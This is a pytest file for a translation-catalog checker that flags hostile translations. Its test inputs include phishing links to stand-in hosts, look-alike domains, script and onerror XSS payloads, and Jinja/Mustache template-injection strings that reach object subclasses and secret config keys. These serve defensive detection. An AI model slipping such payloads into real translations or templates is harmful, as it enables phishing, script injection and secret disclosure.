    for source, translation, locale in (
        ("Download request_%(num)s.zip", "下载%(num)s请求.zip", "zh_CN"),
        ("Download request_%(num)s.zip", "下载 %(num)s请求.zip", "zh_CN"),
        ("Download request_%(num)s.zip", "ダウンロード%(num)s要求.zip", "ja"),
        ("Download request_%(num)d.zip", "下载%(num)d请求.zip", "zh_CN"),
        ("Download request_%s.zip", "下载%s请求.zip", "zh_CN"),
        ("Save the film as %(title)s.mov", "将影片保存为%(title)s影片.mov", "zh_CN"),
    ):
        found = [f for f in check(source, translation, locale=locale) if f[0] != "language"]
        assert [f[:2] for f in found] == [("urls", "warning")], (translation, found)


def test_a_hijack_beside_a_file_name_run_into_the_text_stays_an_error() -> None:
    """The written reading of such a file name gives way to the filled one: never a link
    to another host, beside the name or inside it."""
    source = "Download request_%(num)s.zip"
    for attack in (
        "下载%(num)s请求.zip https://evil.zip/x",
        "下载%(num)s请求.zip，访问evil.com",
        "下载%(num)s.evil.com请求.zip",
        "下载%(num)s请求.zip/evil",
    ):
        found = [f[:2] for f in check(source, attack, locale="zh_CN")]
        assert ("urls", "error") in found, (attack, found)


def test_an_excused_example_link_is_excused_in_every_reading() -> None:
    """A localised example link with an escaped placeholder (``%%(username)s``) reads with
    ``%`` once the text is formatted: the same link, one warning, not a hijack."""
    source = "There must be a %%(username)s placeholder, e.g. http://example.com/%%(username)s/"
    translation = "Es muss ein %%(username)s geben, z.B. http://beispiel.com/%%(username)s/"
    found = [f[:2] for f in check(source, translation, locale="de", flags=["python-format"])]
    assert ("urls", "error") not in found and ("urls", "warning") in found, found
    # another link on that host beside it stays a hijack
    attack = translation + " oder https://beispiel.com/login"
    found = [f[:2] for f in check(source, attack, locale="de", flags=["python-format"])]
    assert ("urls", "error") in found, found


def _no_plural_forms(locale: str, entry: str) -> list[tuple[str, str, str]]:
    """The findings on one plural ``entry`` of a catalog whose header declares no
    Plural-Forms (only its charset), checked as ``locale``."""
    from outreach.pofile import parse_po

    text = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n' + entry
    po = parse_po(text.encode(), path=f"{locale}.po", locale=locale)
    found = check_catalog(po, file=f"{locale}.po", locale=locale)
    return [(f.check, f.severity, f.message) for f in found if f.msgid is not None]


def test_without_plural_forms_a_form_gettext_shows_for_one_alone_may_leave_the_count_out() -> None:
    """nbclassic's Japanese catalog: no Plural-Forms, so gettext's runtime (and Jed) show
    msgstr[0] for one item alone and msgstr[1] otherwise; outreach's reading (Japanese has
    one form for every number) makes the count's absence certain only under its own."""
    entry = (
        '#, python-format\nmsgid "Move an Item"\nmsgid_plural "Move %d Items"\n'
        'msgstr[0] "項目を移動"\nmsgstr[1] "%d 個の項目を移動"\n'
    )
    found = _no_plural_forms("ja", entry)
    assert found and all(severity == "warning" for _, severity, _ in found), found
    assert all("declares no Plural-Forms" in message for _, _, message in found)
    # the same entry under a declared Japanese formula: certain, so an error
    from outreach.pofile import parse_po

    text = (
        'msgid ""\nmsgstr ""\n"Plural-Forms: nplurals=1; plural=0;\\n"\n\n'
        '#, python-format\nmsgid "Move an Item"\nmsgid_plural "Move %d Items"\n'
        'msgstr[0] "項目を移動"\n'
    )
    po = parse_po(text.encode(), path="ja.po", locale="ja")
    assert ("placeholders", "error") in [
        (f.check, f.severity) for f in check_catalog(po, file="ja.po", locale="ja")
    ]


def test_without_plural_forms_a_defect_under_both_readings_stays_an_error() -> None:
    # Russian: msgstr[1] serves 2-4 in Russian's formula and every n != 1 in gettext's
    entry = (
        '#, python-format\nmsgid "%(n)s page"\nmsgid_plural "%(n)s pages"\n'
        'msgstr[0] "%(n)s страница"\nmsgstr[1] "страницы"\nmsgstr[2] "%(n)s страниц"\n'
    )
    assert ("placeholders", "error") in [f[:2] for f in _no_plural_forms("ru", entry)]
    # a link to another host is a danger under any reading
    entry = (
        'msgid "See example.org"\nmsgid_plural "See %(n)s pages on example.org"\n'
        'msgstr[0] "Смотрите evil.com"\nmsgstr[1] "%(n)s страниц на example.org"\n'
        'msgstr[2] "%(n)s страниц на example.org"\n'
    )
    assert ("urls", "error") in [f[:2] for f in _no_plural_forms("ru", entry)]


def test_without_plural_forms_a_form_only_gettext_shows_is_checked_as_it() -> None:
    """A Japanese entry writing two forms: outreach's formula never shows msgstr[1], so
    that is a warning now; gettext's shows it for every n != 1, so what it holds is
    checked, and a link to another host in it is an error."""
    entry = (
        'msgid "%(n)s item on example.org"\nmsgid_plural "%(n)s items on example.org"\n'
        'msgstr[0] "example.org の %(n)s 項目"\nmsgstr[1] "evil.com の %(n)s 項目"\n'
    )
    found = _no_plural_forms("ja", entry)
    assert ("urls", "error") in [f[:2] for f in found]
    assert ("plurals", "warning") in [f[:2] for f in found]
    assert ("plurals", "error") not in [f[:2] for f in found]


_POST = (
    '#, python-format\nmsgid "One person signed: %(url)s"\n'
    'msgid_plural "%(num)s people signed: %(url)s"\nmsgstr[0] "署名しました"\n'
)


def test_without_plural_forms_a_campaigns_own_catalog_has_one_reading(
    tmp_path: Path,
) -> None:
    """outreach renders a campaign's catalog whose strings its templates give with the
    language's usual formula (and writes it into the .mo): Japanese msgstr[0] is shown for
    every number, so a link or count it leaves out is certain, not a judgement that
    gettext's n != 1 would excuse."""
    from outreach.pofile import parse_po
    from outreach.sources import Sources, SourceString

    sources = Sources(
        {(None, "One person signed: %(url)s"): SourceString("%(num)s people signed: %(url)s")},
        "templates",
        "digest",
    )
    text = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n' + _POST
    po = parse_po(text.encode(), path="ja.po", locale="ja")
    found = check_catalog(po, file="ja.po", locale="ja", campaign=CAMPAIGN, sources=sources)
    placeholders = [(f.severity, f.message) for f in found if f.check == "placeholders"]
    assert placeholders and all(s == "error" for s, _ in placeholders), placeholders
    assert not any("declares no Plural-Forms" in m for _, m in placeholders)
    # a campaign of catalogs alone (no templates: another program's) keeps both readings
    alone = parse_campaign(TOML, root=tmp_path)
    plain = check_catalog(po, file="ja.po", locale="ja", campaign=alone)
    assert ("placeholders", "error") not in [(f.check, f.severity) for f in plain]


def test_without_plural_forms_compile_gates_with_the_formula_the_mo_declares() -> None:
    """``outreach compile`` and rendering write the usual formula into the .mo: an entry
    whose msgstr[0] (shown for every number there) drops a placeholder is left out, as it
    was before the two readings, even in a campaign without templates."""
    from outreach.pofile import parse_po
    from outreach.translations import compile_checked

    text = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n' + _POST
    po = parse_po(text.encode(), path="ja.po", locale="ja")
    compiled = compile_checked(po, campaign=CAMPAIGN, locale="ja", file="ja.po", sources=None)
    assert ("placeholders", "error") in [(f.check, f.severity) for f in compiled.findings]
    assert compiled.count == 0 and compiled.left_out == 1


def test_without_plural_forms_a_form_beyond_both_readings_is_one_finding() -> None:
    """Japanese writing three forms, no Plural-Forms: msgstr[1] is shown by gettext's
    reading alone (a warning), msgstr[2] by neither (an error): each form once, never
    msgstr[2] in both a warning and an error."""
    entry = (
        'msgid "%(n)s item"\nmsgid_plural "%(n)s items"\n'
        'msgstr[0] "%(n)s 項目"\nmsgstr[1] "%(n)s 項目"\nmsgstr[2] "%(n)s 項目"\n'
    )
    found = [f for f in _no_plural_forms("ja", entry) if f[0] == "plurals"]
    assert [(s, "msgstr[2]" in m, "msgstr[1]" in m) for _, s, m in found] == [
        ("warning", False, True),
        ("error", True, False),
    ], found
    entry = (
        'msgid "%(n)s item"\nmsgid_plural "%(n)s items"\nmsgstr[0] "%(n)s a"\n'
        'msgstr[1] "%(n)s b"\nmsgstr[2] "%(n)s c"\nmsgstr[3] "%(n)s d"\n'
    )
    found = [f for f in _no_plural_forms("ru", entry) if f[0] == "plurals"]
    assert sum("msgstr[3]" in m for _, _, m in found) == 1, found
    assert [s for _, s, m in found if "msgstr[3]" in m] == ["error"]
    assert [s for _, s, m in found if "msgstr[2]" in m] == ["warning"]


# -- issue 19's round-6 validation set 6A ---------------------------------------------------
@pytest.mark.parametrize(
    ("source", "translation"),
    [
        # GTimeLog's French and Lithuanian: a date's strftime format written the language's way
        ("{0:%A, %Y-%m-%d} (week {1:0>2})", "{0:%A, %d/%m/%Y} (semaine {1:0>2})"),
        ("{0}, week {1} ({2:%B %-d}-{3:%-d})", "{0}, semaine {1} ({2:%-d} au {3:%-d %B})"),
        ("{0:%B %Y}", "{0:%Y %B} mėn."),
        ("{0:%B %Y}", "{0:%Y年%m月}"),
        # the week number's zero padding left out: the same number, shown plainly
        ("{0:%A, %Y-%m-%d} (week {1:0>2})", "{0:%A, %Y-%m-%d} ({1} savaitė)"),
    ],
)
def test_a_fields_date_format_localised_or_its_spec_left_out_is_a_warning(
    source: str, translation: str
) -> None:
    found = [f for f in check(source, translation, locale="fr") if f[0] == "placeholders"]
    assert found and {f[1] for f in found} == {"warning"}, found
    assert all("fine if it reads right" in f[2] for f in found)


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        # a spec that cuts a link, or that a number refuses, stays an error
        ("Read {url}", "Lire {url:.19}.evil.com"),
        ("Week {1:0>2}", "Semaine {1:x}"),
        ("Week {1:0>2}", "Semaine {1!r}"),
        # a date's format on another argument
        ("{0:%B %Y}", "{1:%B %Y}"),
        # a strftime format given to a field whose source has none: it may not be a date
        ("Sent {0}", "Envoyé {0:%d/%m}"),
    ],
)
def test_another_spec_or_another_argument_stays_an_error(source: str, translation: str) -> None:
    assert ("placeholders", "error") in [f[:2] for f in check(source, translation, locale="fr")]


def test_a_date_format_spec_does_not_hide_a_link_markup_or_a_mention() -> None:
    """What a translator writes inside a date's format spec is printed as written: the other
    checks read it as any text."""
    found = [f[:2] for f in check("{0:%B %Y}", "{0:%B %Y https://evil.com/x}", locale="fr")]
    assert ("urls", "error") in found and ("placeholders", "warning") in found
    found = [f[:2] for f in check("{0:%B %Y}", "{0:%Y<script>alert(1)</script>}", locale="fr")]
    assert ("html", "error") in found
    found = [f[:2] for f in check("{0:%B %Y}", "{0:%B %Y @evilhandle}", locale="fr")]
    assert ("mentions", "error") in found


def test_a_field_numbered_by_hand_written_automatic_is_the_same_field() -> None:
    """INGInious's French and Hebrew: ``Environment type {0} is unknown`` written ``{}``:
    str.format gives both the first argument. A source that reorders or repeats its fields,
    an added field, or a mix of both kinds stays an error."""
    assert not check("Environment type {0} is unknown", "Type d'environnement {} inconnu")
    assert not check("{0} of {1:d}", "{} de {:d}")
    for source, translation in [
        ("{1} by {0}", "{} par {}"),
        ("{0} of {0}", "{} de {}"),
        ("{0} of {1}", "{} de {} {}"),
        ("Type {0}", "Type {} {0}"),
        ("Type {0}", "Type {.__class__}"),
        ("Type {0}", "Type {!r}"),
    ]:
        found = [f[:2] for f in check(source, translation, locale="fr")]
        assert ("placeholders", "error") in found, (source, translation)


def test_a_localised_example_address_with_a_ligature_is_one_warning() -> None:
    """GTimeLog's Dutch: ``youremail@example.com`` written ``mĳne-mailadres@voorbeeld.nl``
    (the ligature ĳ): read as written and with the ligature folded, one address, one warning.
    Another address or link on that host stays a hijack."""
    source = "Your Name <youremail@example.com>"
    found = check(source, "Mĳn naam <mĳne-mailadres@voorbeeld.nl>", locale="es")
    assert [f[:2] for f in found] == [("urls", "warning")], found
    for added in (", https://voorbeeld.nl/donate", " of <jan@voorbeeld.nl>"):
        found = check(source, f"Mĳn naam <mĳne-mailadres@voorbeeld.nl>{added}", locale="es")
        assert ("urls", "error") in [f[:2] for f in found], added


@pytest.mark.parametrize(
    ("source", "translation", "severity"),
    [
        # Zinnia's Hebrew: 'on' (context 'on date') between a byline's authors and its date
        ("on", " ", "warning"),
        ("and", " ", "warning"),
        ("of", "\u00a0", "warning"),
        # a word that is a label or a state, not a connector, stays an error
        ("On", " ", "error"),
        ("off", " ", "error"),
        ("shown", " ", "error"),
        ("More", " ", "error"),
    ],
)
def test_a_lone_connector_made_white_space_is_a_warning(
    source: str, translation: str, severity: str
) -> None:
    found = [f for f in check(source, translation, locale="es") if f[0] == "blank"]
    assert [f[1] for f in found] == [severity], found


# -- issue 19, round-6 validation set C: its false classes, fixed in general ---------------
def test_a_percent_sign_as_a_word_in_a_c_format_caption_is_prose() -> None:
    """SkyTemple's ja, ko, ru and zh_CN catalogs (Crowdin): ``% of exp. shared``, which
    xgettext flagged c-format for its ``%``. Read as printf, ``% o`` is a space flag and an
    octal conversion taken from the word "of": a caption no program formats, so the
    translation's percent sign (``(%)``, ``, %``) or its absence is text. A directive the
    translation adds prints as typed and stays an error; so does a real directive lost."""
    source = "% of exp. shared"
    for translation, locale in (
        ("経験値の共有率", "ja"),
        ("Сколько опыта распределить, %", "ru"),
        ("共享经验值的百分比%", "zh_CN"),
        ("Part d'expérience partagée (%)", "fr"),
    ):
        found = [f for f in check(source, translation, locale=locale, flags=["c-format"])]
        assert not [f for f in found if f[0] == "placeholders"], (translation, found)
    for added in ("%s d'expérience partagée", "Part d'expérience %d partagée"):
        found = check(source, added, locale="fr", flags=["c-format"])
        assert ("placeholders", "error") in [f[:2] for f in found], (added, found)
    found = check("% of %d players", "des joueurs", locale="fr", flags=["c-format"])
    assert ("placeholders", "error") in [f[:2] for f in found], found


def test_percent_delimited_names_are_placeholders_not_printf() -> None:
    """OpenSlides' client (cs, de, ru, Transifex): ``The user %user% has no email``, filled
    with ``replace('%user%', …)``. Read as printf it is ``%u`` and ``% ha``, and a
    translation that writes ``%user% nemá`` gets "invalid placeholder '% '" and a
    positional one missing. The names are compared as names: kept is no finding; lost,
    renamed or added, or a printf or named directive added beside them, stays an error."""
    source = "The user %user% has no email, so the invitation email could not be send."
    for translation, locale in (
        ("Uživatel %user% nemá žádnou adresu elektronické pošty.", "cs"),
        ("%user% besitzt keine E-Mail-Adresse; eine E-Mail konnte nicht gesendet werden.", "de"),
        ("Пользователь  %user% не имеет электронной почты.", "ru"),
    ):
        found = check(source, translation, locale=locale)
        assert not [f for f in found if f[0] == "placeholders"], (translation, found)
    for translation in (
        "Uživatel nemá žádnou adresu.",  # lost
        "Uživatel %uzivatel% nemá žádnou adresu.",  # renamed
        "Uživatel %user% (%password%) nemá žádnou adresu.",  # a name the source lacks
        "Uživatel %user% nemá %s adresu.",  # a printf directive beside
        "Uživatel %user% nemá %(email)s adresu.",  # a named one
        "Uživatel %user% %user% nemá žádnou adresu.",  # the same name twice
        "Uživatel % user % nemá žádnou adresu.",  # broken
    ):
        found = check(source, translation, locale="cs")
        assert ("placeholders", "error") in [f[:2] for f in found], (translation, found)
    # beside a printf directive, a percent-delimited word is no name: still printf
    found = check("%(count)s of %total% done", "%(anzahl)s von %total% erledigt", locale="de")
    assert ("placeholders", "error") in [f[:2] for f in found], found
    # a name before a word that % would read as a directive (% E) is still a name
    found = check("%num% emails were send sucessfully.", "%num% E-Mails wurden versandt.")
    assert not [f for f in found if f[0] == "placeholders"], found
    # durations written with printf are printf (%dm%02ds: %d, m, %02d, s)
    found = check("%dm%02ds", "%d分%02d秒", locale="ja")
    assert not found, found
    # a URL's percent-encoding is no name
    assert not _percent_names_of("https://example.org/caf%C3%A9%20x")


def _percent_names_of(text: str) -> list[str]:
    from outreach.checks.placeholders import _percent_names

    return sorted(_percent_names(text))


def test_a_commands_argument_label_of_several_words_translated_is_text() -> None:
    """Limnoria's command help (de, fr, hu, ru, by pull request): each argument is a label
    in angle brackets, sent as plain IRC text. Translated, a label's words read as a tag and
    attributes: ``<Aufgaben ID>`` (an ``id``), ``<sous-chaîne à remplacer>`` (a custom
    element), ``<base 1>``, Hungarian's article in ``<a szervernek elküldendő
    karakterlánc>``; the source's own ``<a global alias,%s %n>`` is no link either. Read as
    labels when the source writes as many: no error; a warning names one that names an
    element (as HTML it opens one that does nothing)."""
    cases = (
        ("[<username>] [<task id>]\n\nRetrieves a task.", "[<Benutzername>] [<Aufgaben ID>]", "de"),
        (
            "<substring to translate> <substring to replace it with> <text>",
            "<sous-chaîne à remplacer> <sous-chaîne de remplacement> <texte>",
            "fr",
        ),
        ("<fromBase> [<toBase>] <number>", "<base 1> [<base 2>] <nombre>", "fr"),
        (
            "<string to be sent to the server>\n\nSends the raw string.",
            "<a szervernek elküldendő karakterlánc>\n\nElküldi a nyers karakterláncot.",
            "fr",
        ),
        ("<a global alias,%s %n>\n\nAlias for %q.%s", "<глобальный псевдоним, %s %n>", "ru"),
    )
    for source, translation, locale in cases:
        found = [f for f in check(source, translation, locale=locale) if f[0] == "html"]
        assert not [f for f in found if f[1] == "error"], (translation, found)
    found = check(*cases[2][:2], locale="fr")
    assert [f[1] for f in found if f[0] == "html"] == ["warning"], found
    assert "<base 1>" in found[0][2]
    # a label kept as the source writes it is no finding
    assert not check("<task id>", "<task id> の内容", locale="ja")


@pytest.mark.parametrize(
    "translation",
    [
        "<a href> [<Aufgaben ID>]",  # a link, with no value
        "<Aufgaben hidden> [<ID>]",  # hides what follows
        "<Aufgaben onclick> [<ID>]",  # an event handler
        '<Aufgaben style="display:none"> [<ID>]',  # an attribute's value
        "<a szervernek>x</a> [<ID>]",  # closed: an element
        "<dialog Aufgaben> [<ID>]",  # a closed dialog hides the rest
        "<details> [<ID>]",  # a disclosure hides it
        "<hr Aufgaben> [<ID>]",  # a void element draws
        "<input Aufgaben> [<ID>]",  # a form control
        "<script Aufgaben> [<ID>]",  # raw text
        "<b Aufgaben> <i ID> <u x>",  # more tags than the source has labels
    ],
)
def test_a_label_exemption_keeps_markup_that_acts_an_error(translation: str) -> None:
    """Attacked: only words that act in no way with no value, after a name that does
    nothing without an attribute, never closed, as many as the source's labels."""
    found = check("[<username>] [<task id>]", translation, locale="de")
    assert ("html", "error") in [f[:2] for f in found], found


def test_a_cldr_export_whose_last_form_is_for_fractions_is_no_header_error() -> None:
    """Audit of the errors (issue 19, round 6; caffeine-ng's Belarusian catalog, from
    Crowdin): CLDR's four categories as four forms, the last ("other", 1.5) only for
    fractions, which gettext never passes: every whole number gets its form. No
    ``plural-forms`` error; the header warning says which numbers get which form. Form 3 is
    still checked as shown (JavaScript's ``ngettext`` passes 1.5 as it is): a placeholder
    missing there stays an error. The same formula reaching form 3 for n == 1234 is a
    broken header."""
    formula = (
        "nplurals=4; plural=(n%10==1 && n%100!=11 ? 0 : n%10>=2 && n%10<=4 && (n%100<12 || "
        "n%100>14) ? 1 : n%10==0 || n%10>=5 && n%10<=9 || n%100>=11 && n%100<=14 ? 2 : 3);"
    )
    source = ("%(n)s file", "%(n)s files")
    forms = ["%(n)s файл", "%(n)s файлы", "%(n)s файлаў", "%(n)s файла"]
    found = check(source, forms, locale="be", plural_forms=formula)
    assert found and all(f[1] == "warning" for f in found), found
    assert "header" in {f[0] for f in found}, found
    found = check(source, [*forms[:3], "файла"], locale="be", plural_forms=formula)
    assert ("placeholders", "error") in [f[:2] for f in found], found
    assert "plural-forms" not in {f[0] for f in found}, found
    odd = formula.replace("? 2 : 3", "? 2 : n == 1234 ? 3 : 2")
    found = check(source, forms, locale="be", plural_forms=odd)
    assert ("plural-forms", "error") in [f[:2] for f in found], found


def test_a_mailto_that_names_no_address_is_a_warning() -> None:
    """Audit of the errors (issue 19, round 6; LinkChecker's German manual): "A mailto: link"
    written "Ein mailto:-Link", the German compound, is read by the finders as a link
    ``mailto:-Link``; with no ``@`` it names no address, no one to write to: a warning. A
    mailto: with an address in any spelling (``@``, ``%40``, ``＠``, in its query) stays a
    possible hijack, and so does another link beside the word."""
    source = "A mailto: link eventually resolves to a list of email addresses."
    found = check(source, "Ein mailto:-Link ergibt eine Liste von E-Mail-Adressen.", locale="de")
    assert [f[:2] for f in found] == [("urls", "warning")], found
    assert "names no address" in found[0][2]
    for hijack in (
        "mailto:hilfe@evil.com",
        "mailto:hilfe%40evil.com",
        "mailto:hilfe＠evil.com",
        "mailto:?to=hilfe%40evil.com",
    ):
        found = check(source, f"Ein {hijack} ergibt eine Liste von E-Mail-Adressen.", locale="de")
        assert ("urls", "error") in [f[:2] for f in found], (hijack, found)
    found = check(source, "Ein mailto:-Link (https://evil.com/) ergibt eine Liste.", locale="de")
    assert ("urls", "error") in [f[:2] for f in found], found


def _alone(msgid: str, translation: str, locale: str = "ru") -> list[tuple[str, str, str]]:
    """The findings on one entry of a catalog checked alone (no campaign, no sources)."""
    catalog = Catalog(locale=locale, fuzzy=False)
    catalog.add(msgid, translation)
    found = check_catalog(catalog, file=f"{locale}.po", locale=locale)
    return [(f.check, f.severity, f.message) for f in found]


def test_a_message_key_s_translation_is_not_compared_with_the_key_as_if_it_were_the_source() -> (
    None
):
    """TLP UI's catalogs use keys as msgids (``TLP_MSG_COLORS__ID_DESCRIPTION``); the English
    text, with its links, lives in an en_EN catalog. Checked alone, a link in the
    translation may be the source's own: a warning that says why, not a hijack."""
    text = "Цвета сообщений, см. https://en.wikipedia.org/wiki/ANSI_escape_code"
    found = _alone("TLP_MSG_COLORS__ID_DESCRIPTION", text)
    assert [f[:2] for f in found if f[1] == "error"] == [], found
    assert any(f[0] == "urls" and "message key" in f[2] for f in found), found
    # the same entry under a prose msgid: the link is not the source's, an error
    found = _alone("Message colours", text)
    assert ("urls", "error") in [f[:2] for f in found]


def test_a_message_key_s_translation_keeps_the_errors_certain_without_the_source() -> None:
    for broken in (
        "Цвета \u202eсообщений",  # a right-to-left override left open
        "Цвета {{ config.SECRET_KEY }}",  # template code
        'Цвета <img src=x onerror="alert(1)">',  # markup that acts
    ):
        found = _alone("TLP_MSG_COLORS__ID_DESCRIPTION", broken)
        assert "error" in [f[1] for f in found], (broken, found)


def test_a_campaign_s_entries_are_never_message_keys() -> None:
    """A campaign's templates give every source string: a msgid shaped like a key is the
    source text there, and a link it lacks is a hijack."""
    found = check("share_title", "Ver https://evil.com/x", locale="es")
    assert ("urls", "error") in [f[:2] for f in found], found


_KEYED_PO = (
    'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: ru\\n"\n'
    '"Plural-Forms: nplurals=2; plural=(n != 1);\\n"\n\n'  # one reading, checked or compiled
    'msgid "TLP_MSG_COLORS__ID_DESCRIPTION"\n'
    'msgstr "Цвета сообщений, см. https://evil.com/login"\n'
)


def test_compile_still_refuses_a_link_a_message_key_s_translation_adds(tmp_path: Path) -> None:
    """``outreach compile`` of a campaign of catalogs alone (no templates, no POT) cannot
    compare a keyed entry's link with any source: what it writes into the .mo ships, so the
    link is refused as before, though ``outreach check`` reports it as a warning; and the
    check cache that ``outreach check`` fills does not hand compile its warning."""
    from outreach.cache import CheckCache, check_fingerprint
    from outreach.checks.runner import StoredEntries
    from outreach.pofile import parse_po
    from outreach.translations import compile_checked

    alone = parse_campaign(TOML, root=tmp_path)
    po = parse_po(_KEYED_PO.encode(), path="ru.po", locale="ru")
    checked = check_catalog(po, file="ru.po", locale="ru", campaign=alone)
    assert [(f.check, f.severity) for f in checked] == [("urls", "warning")], checked
    compiled = compile_checked(po, campaign=alone, locale="ru", file="ru.po", sources=None)
    assert ("urls", "error") in [(f.check, f.severity) for f in compiled.findings]
    assert compiled.count == 0 and compiled.left_out == 1
    # after a check that remembered the warning, compile judges the entry anew
    store = CheckCache.open(tmp_path / "cache", "campaign")
    entries = StoredEntries(store, check_fingerprint(alone, None))
    check_catalog(po, file="ru.po", locale="ru", campaign=alone, cache=entries)
    assert store.enabled and entries.counts["checked"] == 1
    compiled = compile_checked(
        po, campaign=alone, locale="ru", file="ru.po", sources=None, cache=store
    )
    assert ("urls", "error") in [(f.check, f.severity) for f in compiled.findings]
    assert compiled.count == 0 and compiled.left_out == 1


def test_a_link_as_a_msgid_is_no_message_key() -> None:
    """A host may have an underscore (``www.my_site.org``, ``foo_bar.com``): a msgid in
    which the link finders find a link is the source text that links it, and a translation
    that links elsewhere is a hijack, not a key's translation."""
    for msgid, translation in (
        ("www.my_site.org", "Посетите www.evil.org"),
        ("foo_bar.com", "Посетите evil.com"),
        ("my_site.github.io", "Посетите https://evil.github.io"),
    ):
        found = _alone(msgid, translation)
        assert ("urls", "error") in [f[:2] for f in found], (msgid, found)
        assert not any("message key" in f[2] for f in found), found


def test_a_look_alike_host_in_a_message_key_s_translation_stays_an_error() -> None:
    """A host that mixes scripts (``раypal.com``, Cyrillic ``р`` and ``а``) is a danger
    whatever the source says: no English catalog makes it the source's own."""
    for text in ("Цвета, см. https://раypal.com/login", "Colours: see pаypal.com"):
        found = _alone("TLP_MSG_COLORS__ID_DESCRIPTION", text)
        assert any(f[:2] == ("urls", "error") and "mixes" in f[2] for f in found), found
        # and under a prose msgid, as before
        found = _alone("Message colours", text)
        assert any(f[:2] == ("urls", "error") and "mixes" in f[2] for f in found), found


def test_a_campaign_whose_templates_give_no_sources_has_no_message_keys(tmp_path: Path) -> None:
    """A campaign with a template that cannot be parsed (a brace left open) and no POT has
    no source strings, but its msgids are still its templates' strings: ``share_title``
    there is what the template says, and a link its translation adds is a hijack, an error
    as in any campaign, not a key's translation (``outreach check`` would exit 0)."""
    from outreach.sources import template_sources

    templated = parse_campaign(TOML, root=tmp_path)
    (tmp_path / "messages").mkdir()
    (tmp_path / "messages" / "share.j2").write_text('{{ _("share_title") }\n')
    assert template_sources(templated) is None  # else this test tests nothing
    found = check("share_title", "Ver https://evil.com/x", campaign=templated)
    assert ("urls", "error") in [f[:2] for f in found], found
    assert not any("message key" in f[2] for f in found), found
    # the control: the same campaign without templates, a campaign of catalogs alone
    (tmp_path / "messages" / "share.j2").unlink()
    found = check("share_title", "Ver https://evil.com/x", campaign=templated)
    assert ("urls", "warning") in [f[:2] for f in found], found


def test_a_field_reading_an_attribute_added_to_a_source_without_fields_is_an_error() -> None:
    """``_("Hello").format(user=user)`` is harmless for the source; a translation that adds
    ``{user.password}`` makes str.format read it (whatever the flags say), or shows it as
    typed. A Jinja ``{{ … }}``, a plain ``{0}`` or prose in braces is not this finding."""
    for added in ("{user.password}", "{0.__globals__[SECRET]}", "{a[b]!r:>10}"):
        for flags in ((), ("python-brace-format",), ("python-format",)):
            found = check("Hello", f"Hola {added}", flags=flags)
            assert ("placeholders", "error") in [f[:2] for f in found], (added, flags, found)
    for harmless in ("Hola {e.g.}", "Hola {0.5}", "Hola {user}"):
        found = check("Hello", harmless)
        assert not [f for f in found if f[0] == "placeholders" and "attribute" in f[2]], found
    # the source's own field access, kept, is no finding
    assert check("Hello {user.name}", "Hola {user.name}") == []


# -- issue 19, round-7 validation set 7C: its false classes, fixed in general --------------
def test_template_braces_that_can_do_nothing_are_a_warning() -> None:
    """MoinMoin's catalogs are wiki text: ``{{{%s}}}`` is inline text as typed round the
    source's placeholder (French moves the quotes outside, « {{{%s}}} »), which makes a
    ``{%`` no ``%}`` closes; the Hebrew editor help writes ``{{{**}}}`` for the source's
    ``<<Verbatim(**)>>``, a ``{{`` round punctuation alone. No template engine runs either."""
    found = check(
        "'''A page with the name {{{'%s'}}} already exists.'''\n\nTry a different name.",
        "'''Une page ayant pour nom « {{{%s}}} » existe déjà.'''\n\nEssayez un autre nom.",
        locale="fr",
    )
    assert [f[1] for f in found if f[0] == "template-injection"] == ["warning"], found
    found = check(
        " Emphasis:: <<Verbatim(**)>>'''bold'''<<Verbatim(**)>>;\n"
        " Links:: <<Verbatim([[target]])>>; <<Verbatim([[target|linktext]])>>.",
        " הדגשה:: {{{**}}}'''מודגש'''{{{**}}},\n"
        " קישורים:: {{{[[}}}שם דף{{{]]}}}, {{{[[}}}שם דף|טקסט בקישור{{{]]}}}",
        locale="he",
    )
    assert [f[1] for f in found if f[0] == "template-injection"] == ["warning"], found


@pytest.mark.parametrize(
    "translation",
    [
        "« {{{%s}}} » {% include 'evil.html' %}",  # a tag its closer ends, after the brace
        "{%s} {%- import os -%}",
        "{{{'a': config}}}",  # a dict literal: Jinja shows what it reads
        "{{{ config.items() }}}",
        "{{ 7*7 }}",  # a number: something evaluated
        "{{=<% %>=}} <%secret%>",  # Mustache's delimiter change
        "{{> partial}}",
        "{# hidden #} {{{**}}}",
        "{{{**}}} {{ request }}",  # one live tag among inert ones
        # Jinja's '}}' ends a tag only where no bracket is open: the first '}}' here is
        # a dict's, and what follows it reaches object.__subclasses__()
        "{{ {():{}}.__class__.__mro__[1].__subclasses__() }}",
        "{{{():{}}.items()}}",
        "{{ {():{}}|list }}",
        # Mustache's implicit iterator: the current context, all the data at the top
        "{{.}}",
        "{{{ . }}}",
        "{{..}}",  # Handlebars: the parent context
    ],
)
def test_template_braces_that_can_do_something_stay_errors(translation: str) -> None:
    found = check("A page '%s' exists, <<Verbatim(**)>>", translation)
    assert ("template-injection", "error") in [f[:2] for f in found], found


def test_a_named_numbers_padding_changed_is_a_warning() -> None:
    """MoinMoin's Korean: ``%(mins)dm ago`` written ``%(mins)02d분 전``, the same minutes
    shown with two digits; ``%`` formats it as it formats the source's."""
    found = check("%(mins)dm ago", "%(mins)02d분 전", locale="ja", flags=("python-format",))
    assert [f[1] for f in found if f[0] == "placeholders"] == ["warning"], found
    assert not [f for f in check("%(p).2f%% done", "%(p).1f%% fait") if f[1] == "error"]
    # a width that builds a huge string, one that takes an argument, another conversion or
    # another name stays an error
    for text in ("%(mins)999999999d분", "%(mins)*d분", "%(mins)02x분", "%(mins)s분", "%(min)02d분"):
        found = check("%(mins)dm ago", text, locale="ja", flags=("python-format",))
        assert ("placeholders", "error") in [f[:2] for f in found], (text, found)


def test_a_hebrew_prefix_joined_by_a_hyphen_to_the_sources_domain_is_a_warning() -> None:
    """MoinMoin's Hebrew: 'ל-botbouncer.com' is 'to botbouncer.com', the preposition joined
    to a Latin word with a hyphen; the host is the source's. Another host so joined, or a
    look-alike, stays an error."""
    found = check(
        "Could not contact botbouncer.com.", "לא יכל להתחבר ל-botbouncer.com", locale="he"
    )
    assert [f[1] for f in found if f[0] == "urls"] == ["warning"], found
